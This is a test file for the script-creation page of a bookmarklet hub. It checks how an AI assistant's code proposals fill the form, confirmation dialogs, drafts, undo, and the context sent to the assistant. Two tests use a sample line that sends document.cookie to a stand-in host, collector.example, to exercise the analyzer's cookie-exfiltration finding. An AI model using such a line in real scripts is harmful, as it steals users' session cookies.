// @vitest-environment happy-dom

import "fake-indexeddb/auto";
import { detailsRow } from "@scriptorium/hub-data/scripts/rows.test-support";
import { reader, visitor } from "@scriptorium/remote-kit/host.test-support";
import type { ScriptInput } from "@scriptorium/script-analyzer/analysis-result";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import type { AssistantProposal } from "@scriptorium/shared-protocol/host-remote/assistant-link";
import { assistantContext } from "@scriptorium/shared-protocol/hub-edge/ai-script-assistant";
import { inProcessWorker } from "@scriptorium/worker-requests/in-process-worker.test-support";
import { act, cleanup, fireEvent, screen, waitFor, within } from "@testing-library/react";
import { IDBFactory } from "fake-indexeddb";
import { afterEach, beforeEach, expect, it, vi } from "vitest";
import { createDraftStore } from "../script-form/drafts/draft-store.ts";
import { emptyForm, type ScriptFormValues } from "../script-form/script-form.ts";
import { openCreatePage } from "./create-page.test-support.tsx";

vi.mock("@scriptorium/ui-kit/code-editor/code-editor", () => {
	throw new Error("404");
});
/** The real analysis, without a thread of its own, which this environment does not have. */
vi.mock("../workers/spawn-worker.ts", () => ({
	workerOf: () => inProcessWorker((request) => analyzeScript(request as ScriptInput)),
}));
beforeEach(() => {
	globalThis.indexedDB = new IDBFactory();
});
afterEach(() => {
	cleanup();
	sessionStorage.clear();
});

const CODE = "javascript:void (document.title = 'from the assistant')";
type ScriptProposal = Extract<AssistantProposal, { readonly kind: "script" }>;

function proposal(more: Partial<ScriptProposal["script"]> = {}, purpose: ScriptProposal["purpose"] = "edit") {
	const script = {
		code: CODE,
		metadata: { name: "Names the page", match: [] },
		kind: "bookmarklet" as const,
		description: "Writes another title.",
		category: "productivity",
		tags: ["title", "page"],
		rating: analyzeScript({ code: more.code ?? CODE }),
		plan: null,
		replacesOpen: false,
		...more,
	};
	return { kind: "script", script, purpose } satisfies AssistantProposal;
}

const codeField = () => screen.findByLabelText<HTMLTextAreaElement>(/Code$/, { selector: "textarea" });
const textIn = (label: string) => screen.getByLabelText<HTMLInputElement>(label).value;
const type = (label: string, value: string) => fireEvent.change(screen.getByLabelText(label), { target: { value } });
const isOpen = (name: string) => screen.getByRole("tab", { name }).getAttribute("aria-selected") === "true";
const dialog = () => screen.findByRole("alertdialog");
const press = (name: string) => fireEvent.click(screen.getByRole("button", { name }));

async function typeCode(code: string) {
	fireEvent.mouseDown(screen.getByRole("tab", { name: "Code" }));
	fireEvent.change(await codeField(), { target: { value: code } });
}
const keepDraft = (values: Partial<ScriptFormValues>) =>
	createDraftStore().write("new", { values: { ...emptyForm, ...values }, baseVersionId: null, ownerId: null });

it("fills an empty form with a script that was opened on another page, and shows it on the Code tab", async () => {
	const { notices, assistant } = openCreatePage("/create", visitor, { proposal: proposal() });
	expect((await codeField()).value).toBe(CODE);
	expect(assistant.isWaiting()).toBe(false);
	expect(["Title", "Description", "Category", "Tags"].map(textIn)).toEqual([
		"Names the page",
		"Writes another title.",
		"productivity",
		"title, page",
	]);
	expect(document.activeElement).toBe(screen.getByRole("tab", { name: "Code" }));
	expect(notices).toEqual(["success: The script is in the editor. It is not saved yet."]);
	expect(screen.queryByRole("alertdialog")).toBeNull();
});

it("keeps the words that the person wrote before, and cuts the others to what the form takes", async () => {
	const { assistant } = openCreatePage("/create", visitor);
	type("Title", "My own title");
	act(() => assistant.propose(proposal({ description: "d".repeat(700) })));
	expect((await codeField()).value).toBe(CODE);
	expect(textIn("Title")).toBe("My own title");
	expect(textIn("Description")).toHaveLength(500);
});

it("replaces the words of an earlier proposal, which nobody wrote", async () => {
	const { assistant } = openCreatePage("/create", visitor, { proposal: proposal() });
	await codeField();
	act(() => assistant.propose(proposal({ code: "javascript:void 2", metadata: { name: "Another", match: [] } })));
	await dialog();
	press("Use this code");
	await waitFor(() => expect(textIn("Title")).toBe("Another"));
	// A change of the open script is none of its words, whoever wrote them.
	const change = { code: "javascript:void 3", metadata: { name: "A change", match: [] }, replacesOpen: true };
	act(() => assistant.propose(proposal(change)));
	await dialog();
	press("Use this code");
	await waitFor(async () => expect((await codeField()).value).toBe("javascript:void 3"));
	expect(textIn("Title")).toBe("Another");
});

it("shows the difference to code that is there, and keeps it", async () => {
	const { notices, assistant } = openCreatePage("/create", visitor);
	await typeCode("javascript:void 'mine'");
	act(() => assistant.propose(proposal()));
	const asked = await dialog();
	within(asked).getByRole("heading", { name: "Replace the code in the editor?" });
	const table = await within(asked).findByRole("table");
	expect(table.textContent).toContain("javascript:void 'mine'");
	expect(table.textContent).toContain(CODE);
	press("Keep mine");
	await waitFor(() => expect(screen.queryByRole("alertdialog")).toBeNull());
	expect((await codeField()).value).toBe("javascript:void 'mine'");
	expect(textIn("Title")).toBe("");
	expect(notices).toEqual([]);
});

it("takes a change of the open script, leaves its words, and brings all back by Undo or from the local versions", async () => {
	const { notices, noticeActions, assistant } = openCreatePage(`/bookmarklet/${detailsRow.id}/edit`, reader);
	const before = (await codeField()).value;
	expect(before).not.toBe("");
	act(() => assistant.propose(proposal({ replacesOpen: true })));
	within(await dialog()).getByRole("heading", { name: "Use the changed code?" });
	press("Use this code");
	await waitFor(async () => expect((await codeField()).value).toBe(CODE));
	expect(textIn("Title")).toBe(detailsRow.title);
	expect(textIn("Description")).toBe(detailsRow.short_description);
	expect(document.activeElement).toBe(screen.getByRole("tab", { name: "Code" }));
	expect(notices).toEqual(["success: The assistant's code is in the editor. It is not saved yet."]);
	act(() => noticeActions.at(-1)?.run());
	expect((await codeField()).value).toBe(before);
	fireEvent.mouseDown(screen.getByRole("tab", { name: "Copilot" }));
	const versions = await screen.findByRole("region", { name: "Local versions" });
	within(versions).getByRole("button", { name: "Restore Script Assistant" });
	within(versions).getByText("Code before the copilot");
});

it("tries a script on the Test tab, after the same decision", async () => {
	const { assistant } = openCreatePage("/create", visitor, { proposal: proposal({}, "test") });
	await screen.findByRole("region", { name: "Test" });
	expect([isOpen("Copilot"), isOpen("Test")]).toEqual([true, true]);
	const other = proposal({ code: "javascript:void 'other'" }, "test");
	act(() => assistant.propose(other));
	await dialog();
	press("Keep mine");
	act(() => assistant.propose(other));
	await dialog();
	press("Use this code");
	await waitFor(() => expect(screen.queryByRole("alertdialog")).toBeNull());
	expect(isOpen("Test")).toBe(true);
	expect(assistant.readContext()).toMatchObject({ code: "javascript:void 'other'" });
});

it("asks nothing about the code that is open already", async () => {
	const { notices, assistant } = openCreatePage("/create", visitor, { proposal: proposal() });
	await codeField();
	act(() => assistant.propose(proposal({}, "test")));
	await waitFor(() => expect(isOpen("Test")).toBe(true));
	expect(screen.queryByRole("alertdialog")).toBeNull();
	expect(notices).toHaveLength(1);
});

it("asks before it replaces a draft that is still offered, and keeps its code as a local version", async () => {
	await keepDraft({ title: "Of the draft", code: "javascript:void 'draft'" });
	const { assistant } = openCreatePage("/create", visitor, { proposal: proposal() });
	const asked = await dialog();
	within(asked).getByRole("heading", { name: "Replace your unsaved draft?" });
	expect((await within(asked).findByRole("table")).textContent).toContain("javascript:void 'draft'");
	press("Keep mine");
	await waitFor(() => expect(screen.queryByRole("alertdialog")).toBeNull());
	screen.getByText("You have an unsaved draft.");
	act(() => assistant.propose(proposal()));
	await dialog();
	press("Use this code");
	expect((await codeField()).value).toBe(CODE);
	expect(textIn("Title")).toBe("Of the draft");
	expect(screen.queryByText("You have an unsaved draft.")).toBeNull();
	fireEvent.mouseDown(screen.getByRole("tab", { name: "Copilot" }));
	fireEvent.click(await screen.findByRole("button", { name: "Restore Code before the copilot" }));
	expect(assistant.readContext()).toMatchObject({ code: "javascript:void 'draft'" });
});

it("takes the words of an offered draft without code with the script", async () => {
	await keepDraft({ title: "Of the draft", tags: "tea" });
	openCreatePage("/create", visitor, { proposal: proposal() });
	expect((await codeField()).value).toBe(CODE);
	expect(textIn("Title")).toBe("Of the draft");
	expect(screen.queryByLabelText("What changed")).toBeNull();
	expect(screen.queryByText("You have an unsaved draft.")).toBeNull();
});

it("describes the edited script with what is not saved, its live rating and its findings", async () => {
	const { assistant } = openCreatePage(`/bookmarklet/${detailsRow.id}/edit`, reader);
	await codeField();
	await waitFor(() => expect(assistant.readContext()).toMatchObject({ risk: "green" }));
	const code = 'const all = 1;\nfetch("https://collector.example/?" + document.cookie);';
	await typeCode(code);
	type("Title", "Not saved yet");
	const { risk_level: risk, vulnerabilities } = analyzeScript({ code });
	// Right after a change, the rating is of the code before, and is not given.
	expect(assistant.readContext()).toMatchObject({ code, risk: null, findings: [] });
	expect(risk).not.toBe("green");
	await waitFor(() => expect(assistant.readContext()).toMatchObject({ risk }));
	const described = assistant.readContext();
	expect(described).toMatchObject({
		kind: "edited",
		scriptId: detailsRow.id,
		title: "Not saved yet",
		code,
		findings: vulnerabilities.map(({ line, severity }) => ({ line, severity })),
	});
	expect(assistantContext.safeParse(described).success).toBe(true);
});

it("asks the assistant about a finding of the edited code", async () => {
	const { assistant } = openCreatePage("/create", visitor);
	await typeCode('fetch("https://collector.example/?" + document.cookie);');
	fireEvent.mouseDown(screen.getByRole("tab", { name: "Security" }));
	fireEvent.click(await screen.findByRole("button", { name: "Explain this: Cookie exfiltration, line 1" }));
	expect(assistant.asked).toEqual(["Explain the finding “Cookie exfiltration” (Critical) in line 1 of this script."]);
});

it("describes nothing for a new script without code, and after the page was left", async () => {
	const { assistant } = openCreatePage("/create", visitor);
	expect(assistant.readContext()).toBeNull();
	await typeCode("javascript:void 1");
	expect(assistant.readContext()).toMatchObject({ kind: "edited", scriptId: null, code: "javascript:void 1" });
	cleanup();
	expect(assistant.readContext()).toBeNull();
});
